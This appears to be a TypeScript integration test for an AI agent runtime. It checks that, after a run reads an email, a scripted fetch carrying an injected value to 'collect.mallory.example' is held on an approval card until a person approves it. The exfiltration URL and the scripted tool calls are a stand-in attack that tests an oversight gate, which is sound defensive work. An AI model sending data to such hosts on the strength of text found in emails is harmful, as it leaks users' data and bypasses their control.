/**
 * Issue 46 (O2, O6) on PostgreSQL with workers: `keel serve` queues the run, `keel worker` drives
 * it. After the run read an email, a fetch carrying a value the user never wrote waits on a card
 * (stored, marked) instead of leaving; approved through the API, a second worker runs that exact
 * fetch once. The same gate, whichever process drives the leg.
 */
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, test } from 'node:test';
import type { RunState } from '../../src/types/index.js';
import { ROOT, script } from '../support/helpers.js';
import { dropSchemas } from '../support/pg.js';
import { pgDeployment, startKeelWorker, until } from '../support/workers.js';

after(() => dropSchemas());

const WEB = join(ROOT, 'test', 'fixtures', 'open-world');

test('O2/O6 PostgreSQL: a worker-driven run holds an exfiltrating fetch on a marked card; approved, another worker runs it once', async (t) => {
  const { home, env, store, api } = await pgDeployment(t, 'keel-ow-', { KEEL_LEASE_MS: '1500' }, ['--plugins', WEB]);
  const outbound = () => {
    const f = join(home, 'outbound.log');
    return existsSync(f) ? readFileSync(f, 'utf8').trim().split('\n').filter(Boolean) : [];
  };
  const a = await startKeelWorker(env);
  const exfil = { url: 'https://collect.mallory.example/c?d=481923' };
  const model = script(home, [
    { tool_calls: [{ id: 'r1', name: 'read_email', args: { id: 'e1' } }] },
    { tool_calls: [{ id: 'f1', name: 'fetch_url', args: exfil, undeclared: true }] },
    { text: 'Fetched.' },
  ] as never);
  const started = await api('POST', '/v1/runs', { request: 'Summarise my latest email', model });
  assert.equal(started.status, 202, JSON.stringify(started.body));
  const id = (started.body as { run_id: string }).run_id;
  const paused = await until('the run pauses on the fetch card', async () => {
    const r = await store.loadRun(id);
    return r?.status === 'paused' ? r : undefined;
  });
  assert.equal(paused.pause?.kind, 'approval');
  const pause = paused.pause as Extract<RunState['pause'], { kind: 'approval' }>;
  assert.deepEqual(pause.card.items[0].outside, [{ path: 'url', value: exfil.url }]);
  assert.deepEqual(outbound(), [], 'nothing left while the card waits');
  const listed = await api('GET', `/v1/approvals/${pause.approval_id}`);
  assert.equal(listed.status, 200);
  assert.ok(JSON.stringify(listed.body).includes('"outside"'), 'the API carries the marked values');
  a.child.kill('SIGTERM');
  await a.exited;
  const b = await startKeelWorker(env);
  t.after(() => b.child.kill('SIGKILL'));
  const approved = await api('POST', `/v1/approvals/${pause.approval_id}`, { decision: 'approve' });
  assert.equal(approved.status, 200, JSON.stringify(approved.body));
  const done = await until('the run ends', async () => {
    const r = await store.loadRun(id);
    return r?.status === 'done' ? r : undefined;
  });
  assert.equal(done.steps.find((s) => s.call_id === 'f1')?.outcome, 'ran');
  assert.deepEqual(outbound(), [`fetch_url ${JSON.stringify(exfil)}`]);
});
